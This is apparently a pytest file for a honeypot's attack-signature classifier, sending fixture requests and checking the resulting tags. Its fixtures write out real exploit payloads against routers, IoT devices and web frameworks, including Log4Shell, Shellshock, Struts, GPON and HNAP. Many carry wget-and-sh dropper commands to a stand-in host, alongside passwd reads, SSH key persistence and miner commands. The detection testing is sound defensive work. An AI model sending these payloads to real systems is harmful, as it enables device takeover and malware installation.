"""test_signatures.py - classification end to end: real attack requests sent to the real binary are
tagged with the right signature (at least one fixture per shipped signature), the requests that
trigger WOWHoneypot's rules name the matching signature, events of the other sensors (stored rows)
are classified by `hanipo classify`, classification re-runs over history, user signature files
extend the set, SIGHUP reloads them, and bad files are refused with file:line."""
import json
import re
import signal
import sqlite3
import subprocess

import pytest

from conftest import (ROOT, build_request, event_with_payload, tls_client_hello, wait_event,
                      wait_log, wait_until)
from test_http_rules import TRIGGERS, full_request

SIGDIR = ROOT / "data" / "signatures"
SIG_OPT = f"signatures.path={SIGDIR}"
C2 = "203.0.113.9"


def shipped_ids():
    ids = []
    for f in sorted(SIGDIR.glob("*.sig")):
        for line in f.read_text().splitlines():
            m = re.match(r"\s*sig\s+(\S+)", line)
            if m:
                ids.append(m.group(1))
    return ids


# (signature, method, target, extra headers, body): a request as bots send it.
HTTP = [
    ("gpon-auth-bypass", "GET", "/menu.html?images/", [], None),
    ("gpon-rce", "POST", "/GponForm/diag_Form?images/", [],
     f"XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+http://{C2}/g+"
     "-O+/tmp/g;sh+/tmp/g`&ipv=0"),
    ("huawei-hg532-rce", "POST", "/ctrlt/DeviceUpgrade_1",
     [("Authorization", 'Digest username="dslf-config", realm="HuaweiHomeGateway", '
       'nonce="88645cefb1f9ede0e336e3569d75ee30", uri="/ctrlt/DeviceUpgrade_1", '
       'response="3612f843a42db38f48f59d2a3597e19c"')],
     '<?xml version="1.0" ?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/">'
     '<s:Body><u:Upgrade xmlns:u="urn:schemas-upnp-org:service:WANPPPConnection:1">'
     f"<NewStatusURL>$(/bin/busybox wget -g {C2} -l /tmp/h -r /h)</NewStatusURL>"
     "<NewDownloadURL>$(echo HUAWEIUPNP)</NewDownloadURL></u:Upgrade></s:Body></s:Envelope>"),
    ("realtek-miniigd-rce", "POST", "/picsdesc.xml",
     [("SOAPAction", "urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping")],
     "<?xml version=\"1.0\" ?><s:Envelope><s:Body><u:AddPortMapping><NewRemoteHost></NewRemoteHost>"
     f"<NewInternalClient>`cd /var; wget http://{C2}/r; sh r`</NewInternalClient>"
     "</u:AddPortMapping></s:Body></s:Envelope>"),
    ("zyxel-nas-weblogin-rce", "GET",
     "/adv,/cgi-bin/weblogin.cgi?username=admin%27%3Bls%20%23&password=asdf", [], None),
    ("zyxel-usg-ztp-rce", "POST", "/ztp/cgi-bin/handler", [("Content-Type", "application/json")],
     '{"command":"setWanPortSt","proto":"dhcp","port":"4","vlan_tagged":"1","vlanid":"5",'
     '"mtu":"; ping 127.0.0.1;","data":"hi"}'),
    ("zyxel-viewlog-rce", "POST", "/cgi-bin/ViewLog.asp", [],
     "remote_submit_Flag=1&remote_syslog_Flag=1&RemoteSyslogSupported=1&LogFlag=0&"
     f"remote_host=%3bcd+/tmp;wget+http://{C2}/z;sh+z%3b%23&remoteSubmit=Save"),
    ("tr064-ntp-rce", "POST", "/UD/act?1",
     [("SOAPAction", "urn:dslforum-org:service:Time:1#SetNTPServers")],
     '<?xml version="1.0"?><SOAP-ENV:Envelope><SOAP-ENV:Body><u:SetNTPServers>'
     f"<NewNTPServer1>`cd /tmp;wget http://{C2}/1;chmod 777 1;./1`</NewNTPServer1>"
     "</u:SetNTPServers></SOAP-ENV:Body></SOAP-ENV:Envelope>"),
    ("netgear-cgi-bin-rce", "GET", "/cgi-bin/;cat$IFS/etc/passwd", [], None),
    ("netgear-dgn-setup-rce", "GET",
     f"/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://{C2}/Mozi.m+"
     "-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1", [], None),
    ("draytek-vigor-rce", "POST", "/cgi-bin/mainfunction.cgi", [],
     "action=login&keyPath=%27%0A%2fbin%2fcat%20%2fetc%2fpasswd%0A%27&loginUser=a&loginPwd=a"),
    ("dlink-hnap-rce", "POST", "/HNAP1/",
     [("SOAPAction", f'"http://purenetworks.com/HNAP1/GetDeviceSettings/`cd /tmp && wget '
       f'http://{C2}/h`"')], ""),
    ("dlink-hnap-probe", "GET", "/HNAP1/", [], None),
    ("dlink-getcfg-disclosure", "POST", "/getcfg.php", [], "SERVICES=DEVICE.ACCOUNT"),
    ("dlink-command-php", "POST", "/command.php", [], "cmd=cat%20/var/passwd"),
    ("dlink-dsl-login-cli", "GET",
     f"/login.cgi?cli=aa%20aa%27;wget%20http://{C2}/d%20-O%20-%3E%20/tmp/r;sh%20/tmp/r%27$", [],
     None),
    ("hikvision-weblanguage-rce", "PUT", "/SDK/webLanguage", [],
     '<?xml version="1.0" encoding="UTF-8"?><language>$(id>webLib/x)</language>'),
    ("tplink-archer-rce", "GET",
     "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E/tmp/x)", [], None),
    ("linksys-themoon", "POST", "/tmUnblock.cgi", [],
     "submit_button=&change_action=&action=&commit=0&ttcp_num=2&ttcp_size=2&"
     "ttcp_ip=-h+%60cd+%2Ftmp%3B%60&StartEPI=1"),
    ("boa-formlogin", "POST", "/boaform/admin/formLogin", [], "username=admin&psd=Feefifofum"),
    ("jaws-dvr-shell", "GET", f"/shell?cd+/tmp;rm+-rf+*;wget+http://{C2}/jaws;sh+/tmp/jaws", [],
     None),
    ("vacron-nvr-rce", "GET", f"/board.cgi?cmd=cd+/tmp;wget+http://{C2}/v", [], None),
    ("zte-web-shell-cmd", "POST", "/web_shell_cmd.gch", [],
     "IF_ACTION=apply&IF_ERRORSTR=SUCC&IF_ERRORPARAM=SUCC&IF_ERRORTYPE=-1&Cmd=cat+/etc/passwd"),
    ("thinkphp-invokefunction-rce", "GET",
     "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&"
     "vars[0]=md5&vars[1][]=HelloThinkPHP21", [], None),
    ("drupalgeddon2", "POST",
     "/user/register?element_parents=account/mail/%23value&ajax_form=1&"
     "_wrapper_format=drupal_ajax", [],
     "form_id=user_register_form&_drupal_ajax=1&mail[#post_render][]=exec&mail[#type]=markup&"
     "mail[#markup]=echo+x"),
    ("struts2-ognl-header", "GET", "/index.action",
     [("Content-Type", "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)"
       ".(#cmd='id')}")], None),
    ("struts2-ognl-uri", "GET",
     "/struts2-showcase/%24%7B%28%23_memberAccess%5B%22allowStaticMethodAccess%22%5D%3Dtrue%29%7D"
     "/actionChain1.action", [], None),
    ("log4shell", "GET", "/", [("User-Agent", f"${{jndi:ldap://{C2}:1389/a}}")], None),
    ("spring4shell", "POST", "/index", [],
     "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di&"
     "class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp"),
    ("spring-cloud-function-spel", "POST", "/functionRouter",
     [("spring.cloud.function.routing-expression", 'T(java.lang.Runtime).getRuntime().exec("id")')],
     "x"),
    ("confluence-ognl", "GET",
     "/%24%7B%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%7D/", [], None),
    ("shellshock", "GET", "/cgi-bin/status", [("User-Agent", '() { :; }; /bin/bash -c "id"')],
     None),
    ("phpunit-eval-stdin", "POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", [],
     '<?php echo md5("phpunit"); ?>'),
    ("php-cgi-arg-injection", "POST",
     "/index.php?-d+allow_url_include%3don+-d+auto_prepend_file%3dphp://input", [],
     "<?php echo 1; ?>"),
    ("laravel-ignition-rce", "POST", "/_ignition/execute-solution",
     [("Content-Type", "application/json")],
     '{"solution":"Facade\\\\Ignition\\\\Solutions\\\\MakeViewVariableOptionalSolution",'
     '"parameters":{"variableName":"x","viewFile":"phar://x"}}'),
    ("apache-path-traversal", "GET", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", [], None),
    ("citrix-adc-traversal", "GET", "/vpn/../vpns/cfg/smb.conf", [], None),
    ("f5-bigip-rce", "POST", "/mgmt/tm/util/bash", [("Content-Type", "application/json")],
     '{"command":"run","utilCmdArgs":"-c id"}'),
    ("fortios-traversal", "GET",
     "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession", [], None),
    ("pulse-secure-traversal", "GET",
     "/dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/",
     [], None),
    ("weblogic-wls-wsat", "POST", "/wls-wsat/CoordinatorPortType", [("Content-Type", "text/xml")],
     "<soapenv:Envelope/>"),
    ("weblogic-async", "POST", "/_async/AsyncResponseService", [("Content-Type", "text/xml")],
     "<soapenv:Envelope/>"),
    ("weblogic-console-rce", "GET", "/console/css/%252e%252e%252fconsole.portal", [], None),
    ("jboss-invoker-deser", "POST", "/invoker/JMXInvokerServlet", [], "\u00ac\u00ed\u0000\u0005"),
    ("jboss-jms-httpil", "POST", "/jbossmq-httpil/HTTPServerILServlet", [], "x"),
    ("jboss-console", "GET", "/jmx-console/HtmlAdaptor?action=inspectMBean&name=jboss.system:"
     "type=ServerInfo", [], None),
    ("axis2-admin", "GET", "/axis2/axis2-admin/", [], None),
    ("tomcat-manager-probe", "GET", "/manager/html", [], None),
    ("tomcat-manager-login", "GET", "/manager/html",
     [("Authorization", "Basic dG9tY2F0OnRvbWNhdA==")], None),
    ("tomcat-manager-deploy", "PUT", "/manager/text/deploy?path=/x&update=true", [], "PK\u0003\u0004"),
    ("tomcat-put-jsp", "PUT", "/shell.jsp/", [], '<% out.println("x"); %>'),
    ("javaee-form-login", "POST", "/j_security_check", [],
     "j_username=weblogic&j_password=welcome1"),
    ("wordpress-login", "GET", "/wp-login.php", [], None),
    ("wordpress-login-bruteforce", "POST", "/wp-login.php", [],
     "log=admin&pwd=admin123&wp-submit=Log+In"),
    ("wordpress-xmlrpc", "POST", "/xmlrpc.php", [],
     "<methodCall><methodName>system.multicall</methodName></methodCall>"),
    ("wordpress-scan", "GET", "/wp-includes/wlwmanifest.xml", [], None),
    ("wordpress-config-leak", "GET", "/wp-config.php.bak", [], None),
    ("phpmyadmin-scan", "GET", "/phpmyadmin/index.php?lang=en", [], None),
    ("http-login-bruteforce", "POST", "/login", [], "username=admin&password=admin"),
    ("sql-injection", "GET", "/product.php?id=1%20UNION%20SELECT%201,2,3--", [], None),
    ("env-file-leak", "GET", "/.env", [], None),
    ("vcs-leak", "GET", "/.git/config", [], None),
    ("cloud-credentials-leak", "GET", "/.aws/credentials", [], None),
    ("config-file-probe", "GET", "/config.json", [], None),
    ("backup-file-probe", "GET", "/backup.sql", [], None),
    ("phpinfo-probe", "GET", "/phpinfo.php", [], None),
    ("symfony-profiler", "GET", "/_profiler/phpinfo", [], None),
    ("framework-debug-probe", "GET", "/server-status", [], None),
    ("spring-actuator", "GET", "/actuator/env", [], None),
    ("proxy-connect-probe", "CONNECT", "example.com:443", [], None),
    ("proxy-connect-probe", "GET", "http://example.com/", [], None),
    ("path-traversal", "GET", "/static/../../../../windows/win.ini", [], None),
    ("passwd-read", "GET", "/index.php?page=../../../../etc/passwd", [], None),
    ("webdav-probe", "PROPFIND", "/", [("Depth", "1")], None),
    ("http-put-upload", "PUT", "/upload.txt", [], "hello"),
    ("hadoop-yarn-rce", "POST", "/ws/v1/cluster/apps/new-application", [], ""),
    ("docker-api-probe", "GET", "/containers/json", [], None),
    ("docker-api-probe", "POST", "/v1.24/containers/create?name=x",
     [("Content-Type", "application/json")],
     '{"Image":"alpine","HostConfig":{"Binds":["/:/host"],"Privileged":true}}'),
    ("cmd-injection-probe", "GET", "/index.php?cmd=whoami", [], None),
    ("http-dropper", "GET", f"/cgi-bin/x?c=cd+/tmp;wget+http://{C2}/bins.sh;sh+bins.sh", [], None),
    ("webshell-probe", "GET", "/cmx.php", [], None),
    ("php-webshell-check", "POST", "/x.php", [], "a=die(pi()*42);"),
    ("php-code-injection", "POST", "/index.php?page=php://input", [], "<?php system('id'); ?>"),
]

# (signature, raw bytes): non-HTTP bytes sent to the HTTP sensor (stored as its payload events).
NMAP_RDP = (b"\x03\x00\x00\x2a\x25\xe0\x00\x00\x00\x00\x00Cookie: mstshash=nmap\r\n"
            b"\x01\x00\x08\x00\x03\x00\x00\x00")
RAW = [
    ("rdp-scan", b"\x03\x00\x00\x2c\x27\xe0\x00\x00\x00\x00\x00Cookie: mstshash=Administr\r\n"
     b"\x01\x00\x08\x00\x0b\x00\x00\x00"),
    ("rdp-nmap-probe", NMAP_RDP),
    ("redis-probe", b"*1\r\n$4\r\nINFO\r\n"),
    ("adb-probe", b"CNXN\x00\x00\x00\x01\x00\x10\x00\x00\x07\x00\x00\x00\x32\x02\x00\x00"
     b"\xbc\xb1\xa7\xb1host::\x00"),
    ("smb-probe", b"\x00\x00\x00\x54\xffSMBr\x00\x00\x00\x00\x18\x53\xc8" + b"\x00" * 70),
    ("tls-on-plain-port", None),        # filled with a real ClientHello at run time
]

# (signature, proto, kind, fields, tags): events of the Telnet/SSH/RDP/ELM327 sensors and of the
# SYN fingerprint, with the fields those sensors write on their branches (login: user, password,
# success; command: command; download_url: url, tool, command; rdp request: cookie; connect: the
# SYN tool tags), stored as rows and classified by `hanipo classify`.
STORED = [
    ("telnet-bruteforce", "telnet", "login", {"user": "admin", "password": "admin",
                                              "success": False}, []),
    ("ssh-bruteforce", "ssh", "login", {"user": "root", "password": "123456", "success": False},
     []),
    ("mirai-credentials", "telnet", "login", {"user": "root", "password": "xc3511",
                                              "success": True}, []),
    ("mirai-elevation", "telnet", "command", {"command": "enable\u0000"}, []),
    ("mirai-busybox-check", "telnet", "command", {"command": "/bin/busybox ECCHI"}, []),
    ("mirai-loader", "telnet", "command",
     {"command": "/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69/tmp' > /tmp/.nippon; "
              "/bin/busybox cat /tmp/.nippon; /bin/busybox rm /tmp/.nippon"}, []),
    ("gafgyt-dropper", "ssh", "command",
     {"command": f"cd /tmp || cd /var/run; wget http://{C2}/bins.sh; chmod 777 bins.sh; "
              "sh bins.sh"}, []),
    ("shell-download", "telnet", "download_url", {"url": f"http://{C2}/m", "tool": "wget",
                                                  "command": f"wget http://{C2}/m"}, []),
    ("shell-recon", "ssh", "command", {"command": "cat /proc/cpuinfo | grep name | wc -l"}, []),
    ("ssh-key-persistence", "ssh", "command",
     {"command": "echo ssh-rsa AAAAB3NzaC1yc2E x >> ~/.ssh/authorized_keys"}, []),
    ("crypto-miner", "ssh", "command", {"command": "./xmrig -o stratum+tcp://pool.example:3333"},
     []),
    ("elm327-probe", "elm327", "command", {"command": "ATZ"}, []),
    ("mirai-syn", "telnet", "connect", {"syn_tool": "mirai"}, ["mirai"]),
    ("masscan-syn", "http", "connect", {"syn_tool": "masscan"}, ["masscan"]),
    ("zmap-syn", "tcp", "connect", {"syn_tool": "zmap"}, ["zmap"]),
    ("nmap-syn", "ssh", "connect", {"syn_tool": "nmap"}, ["nmap"]),
    ("mirai-elevation", "ssh", "command", {"line": "shell"}, []),
    ("rdp-scan", "rdp", "request", {"cookie": "mstshash=hello"}, []),
]

# WOWHoneypot rule -> the signature its trigger must carry; None: not an attack (no tag at all).
WOW = {
    1001: None,     # GET /login: a page fetch
    1002: "http-login-bruteforce", 1003: None, 1004: None,     # HEAD, OPTIONS
    1005: "http-put-upload", 1006: None,                       # robots.txt
    1007: "phpmyadmin-scan", 1008: "dlink-command-php", 1009: "struts2-ognl-header",
    1010: "shellshock", 1011: "wordpress-login", 1012: "dlink-getcfg-disclosure",
    1013: "cmd-injection-probe", 1014: "cmd-injection-probe", 1015: "passwd-read",
    1016: "passwd-read", 1017: "cmd-injection-probe", 1018: "cmd-injection-probe",
    1019: "passwd-read", 1020: None,                           # any .jsp page
    1021: "webshell-probe", 1022: "webdav-probe", 1023: "netgear-dgn-setup-rce",
    1024: "dlink-getcfg-disclosure", 1025: "jboss-invoker-deser", 1026: "jboss-jms-httpil",
    1027: "axis2-admin", 1028: "jboss-console", 1029: "jboss-console", 1030: "jboss-console",
    1031: "tomcat-manager-probe", 1032: "tomcat-manager-probe", 1033: "tomcat-manager-probe",
    1034: "tomcat-manager-login", 1035: "struts2-ognl-header", 1036: "webshell-probe",
    1037: "php-webshell-check", 1038: "php-webshell-check", 1039: "wordpress-config-leak",
    1040: "weblogic-wls-wsat", 1041: "weblogic-wls-wsat", 1042: "javaee-form-login",
    1043: "cmd-injection-probe", 1044: "php-webshell-check",
}

# Ordinary requests no signature may claim.
BENIGN = [
    ("GET", "/", [], None),
    ("GET", "/index.html", [("Accept", "text/html")], None),
    ("GET", "/favicon.ico", [], None),
    ("GET", "/images/logo.png", [("Referer", "http://example.com/")], None),
    ("GET", "/info/about.html", [], None),
    ("GET", "/version.txt", [], None),
    ("POST", "/search", [("Content-Type", "application/x-www-form-urlencoded")], "q=hello+world"),
    ("GET", "/blog/2024/05/why-c.html?utm_source=feed", [], None),
]


def tags_of(row):
    return row["tags"]


SENT = [0]


def send_and_get(h, method, target, headers, body):
    """Sends one request (made unique by an X-Seq header) and returns its stored event."""
    SENT[0] += 1
    raw, _ = full_request(h.port, method, target, [*headers, ("X-Seq", str(SENT[0]))], body)
    with socket_conn(h.port) as s:
        s.sendall(raw)
        s.shutdown(1)
        try:
            while s.recv(65536):
                pass
        except OSError:
            pass
    return event_with_payload(h, raw)


def socket_conn(port):
    import socket
    s = socket.create_connection(("127.0.0.1", port), timeout=10)
    return s


def test_every_signature_has_a_fixture():
    ids = shipped_ids()
    assert len(ids) >= 60
    assert len(ids) == len(set(ids))
    covered = {f[0] for f in HTTP} | {f[0] for f in RAW} | {f[0] for f in STORED}
    missing = [i for i in ids if i not in covered]
    assert not missing, f"signatures without an e2e fixture: {missing}"
    unknown = sorted(covered - set(ids))
    assert not unknown, f"fixtures for unknown signatures: {unknown}"


@pytest.fixture(scope="module")
def sig_hanipo(tmp_path_factory):
    from conftest import Hanipo
    h = Hanipo(tmp_path_factory.mktemp("sig"), overrides=[SIG_OPT])
    h.start()
    yield h
    rc = h.stop()
    assert rc in (None, 0), f"hanipo exited {rc}:\n{h.log()}"


@pytest.mark.parametrize("sig,method,target,headers,body", HTTP,
                         ids=[f"{f[0]}-{i}" for i, f in enumerate(HTTP)])
def test_http_attack_fixture(sig_hanipo, sig, method, target, headers, body):
    ev = send_and_get(sig_hanipo, method, target, headers, body)
    assert sig in tags_of(ev), (sig, ev["fields"], ev["tags"])


@pytest.mark.parametrize("sig,raw", RAW, ids=[f[0] for f in RAW])
def test_raw_payload_fixture(sig_hanipo, sig, raw):
    if raw is None:
        raw = tls_client_hello()
    with socket_conn(sig_hanipo.port) as s:
        s.sendall(raw)
        s.shutdown(1)
        try:
            while s.recv(65536):
                pass
        except OSError:
            pass
    rows = wait_event(sig_hanipo, None, lambda r: r["payload"] is not None and
                      bytes(r["payload"]).startswith(raw) and r["kind"] != "connect")
    assert any(sig in r["tags"] for r in rows), [(r["kind"], r["fields"], r["tags"]) for r in rows]


@pytest.mark.parametrize("rid", sorted(WOW))
def test_wowhoneypot_rule_requests(sig_hanipo, rid):
    method, target, extra, body = TRIGGERS[rid]
    ev = send_and_get(sig_hanipo, method, target, extra, body)
    assert ev["fields"].get("rule") == rid, ev["fields"]     # the request did trigger the rule
    want = WOW[rid]
    if want is None:
        assert ev["tags"] == [], (rid, ev["tags"])
    else:
        assert want in ev["tags"], (rid, want, ev["tags"])


@pytest.mark.parametrize("req", BENIGN, ids=[b[1] for b in BENIGN])
def test_benign_requests_untagged(sig_hanipo, req):
    ev = send_and_get(sig_hanipo, *req)
    assert ev["tags"] == [], ev["tags"]


def insert_rows(store, rows):
    """Appends events as another sensor would have stored them; returns their seqs."""
    con = sqlite3.connect(store)
    seqs = []
    with con:
        base = con.execute("SELECT coalesce(max(seq), 0) FROM events").fetchone()[0]
        for i, (proto, kind, fields, tags, ts) in enumerate(rows):
            seq = base + i + 1
            con.execute(
                "INSERT INTO events (seq, id, ts, sensor, session, proto, kind, src_ip, src_port,"
                " dst_ip, dst_port, fields, tags) VALUES (?,?,?,?,?,?,?,?,?,?,?,?,?)",
                (seq, f"01J0000000000000000000{seq:04d}", ts, "other-sensor",
                 "01J00000000000000000SESS00", proto, kind, "198.51.100.7", 40000 + i,
                 "127.0.0.1", 23, json.dumps(fields), json.dumps(tags)))
            # The store's indexes by source and by time, as a writer keeps them.
            con.execute("INSERT INTO src_ranges (ip, lo, hi, min_ts, max_ts) VALUES (?,?,?,?,?)",
                        ("198.51.100.7", seq, seq, ts, ts))
            con.execute("INSERT INTO ts_ranges (lo, hi, min_ts, max_ts) VALUES (?,?,?,?)",
                        (seq, seq, ts, ts))
            seqs.append(seq)
    con.close()
    return seqs


def tags_by_seq(store):
    con = sqlite3.connect(store)
    out = {s: json.loads(t) for s, t in con.execute("SELECT seq, tags FROM events")}
    con.close()
    return out


def test_other_sensors_events_classified(make_hanipo):
    h = make_hanipo(SIG_OPT)
    h.stop()
    now_us = 1_800_000_000_000_000
    seqs = insert_rows(h.store, [(p, k, f, t, now_us) for _, p, k, f, t in STORED])
    r = h.cli("classify")
    assert f"{len(STORED)} tagged, {len(STORED)} changed" in r.stdout, r.stdout
    tags = tags_by_seq(h.store)
    for seq, (sig, proto, kind, fields, pre) in zip(seqs, STORED):
        assert sig in tags[seq], (sig, proto, kind, fields, tags[seq])
        for t in pre:           # tags set by a sensor are kept
            assert t in tags[seq]
    # Running it again changes nothing.
    r = h.cli("classify")
    assert ", 0 changed" in r.stdout, r.stdout


def test_classify_history_and_user_signatures(make_hanipo, tmp_path):
    # Stored without classification (signatures off), then classified afterwards.
    h = make_hanipo("signatures.path=")
    ev = send_and_get(h, "GET", "/.env", [], None)
    old = send_and_get(h, "GET", "/.git/config", [], None)
    assert ev["tags"] == [] and old["tags"] == []
    h.stop()
    con = sqlite3.connect(h.store)
    with con:      # make the .git request two days old
        con.execute("UPDATE events SET ts = ts - 172800000000 WHERE seq = ?", (old["seq"],))
    con.close()
    r = h.cli("classify", "--signatures", str(SIGDIR), "--since", "1d", "--dry-run")
    assert "1 would change" in r.stdout, r.stdout
    assert tags_by_seq(h.store)[ev["seq"]] == []
    r = h.cli("classify", "--signatures", str(SIGDIR), "--since", "1d")
    tags = tags_by_seq(h.store)
    assert "env-file-leak" in tags[ev["seq"]]
    assert tags[old["seq"]] == []            # outside --since
    h.cli("classify", "--signatures", str(SIGDIR), "--since", "100h")
    assert "vcs-leak" in tags_by_seq(h.store)[old["seq"]]
    # A user's own signature directory: its ids replace what it matches; others' stay.
    mine = tmp_path / "mysigs"
    mine.mkdir()
    (mine / "local.sig").write_text(
        "# my own\nsig my-env\nname My .env watcher\ncve -\ncategory secret-leak\n"
        "owasp I7\nabuseipdb 21\nproto http\nkind request\nmatch path ends /.env\n")
    r = h.cli("classify", "--signatures", str(mine))
    tags = tags_by_seq(h.store)
    assert "my-env" in tags[ev["seq"]]
    assert "env-file-leak" in tags[ev["seq"]]       # not an id of this db: kept
    # Ids are unique across the files of a directory.
    (mine / "dup.sig").write_text((mine / "local.sig").read_text())
    r = h.cli("classify", "--signatures", str(mine), check=False)
    assert r.returncode == 2
    assert f"{mine}/local.sig:2: signature my-env already defined at {mine}/dup.sig:2" in \
        r.stderr, r.stderr


def test_sighup_reloads_signatures(make_hanipo, tmp_path):
    mine = tmp_path / "sigs"
    mine.mkdir()
    (mine / "a.sig").write_text("sig first\nname First\ncategory recon\nowasp I3\nabuseipdb 21\n"
                                "kind request\nmatch path is /one\n")
    h = make_hanipo(f"signatures.path={mine}")
    assert "first" in send_and_get(h, "GET", "/one", [], None)["tags"]
    assert send_and_get(h, "GET", "/two", [], None)["tags"] == []
    (mine / "b.sig").write_text("sig second\nname Second\ncategory recon\nowasp I3\n"
                                "abuseipdb 21\nkind request\nmatch path is /two\n")
    h.proc.send_signal(signal.SIGHUP)
    wait_log(h, "signatures: 2 from")
    ev = send_and_get(h, "GET", "/two?again", [], None)
    assert ev["tags"] == ["second"], ev["tags"]
    # A broken file on reload: the old signatures stay, the error names file:line.
    (mine / "c.sig").write_text("sig third\nname x\nbogus line\n")
    h.proc.send_signal(signal.SIGHUP)
    wait_log(h, "c.sig:3: unknown keyword")
    ev = send_and_get(h, "GET", "/two?third", [], None)
    assert ev["tags"] == ["second"]


def test_bad_signature_file_refused(make_hanipo, tmp_path):
    bad = tmp_path / "bad.sig"
    bad.write_text("sig ok\nname ok\ncategory recon\nowasp I3\nabuseipdb 21\nproto http\n"
                   "match path regex ([a-\n")
    h = make_hanipo(f"signatures.path={bad}", start=False)
    r = subprocess.run(h.args("run"), capture_output=True, text=True, timeout=30)
    assert r.returncode == 2, r
    assert f"{bad}:7: bad regex" in r.stderr
    assert "-o: [signatures] path" in r.stderr
    r = h.cli("check", check=False)
    assert r.returncode == 2
    assert f"{bad}:7: bad regex" in r.stderr
    r = h.cli("classify", check=False)
    assert r.returncode != 0
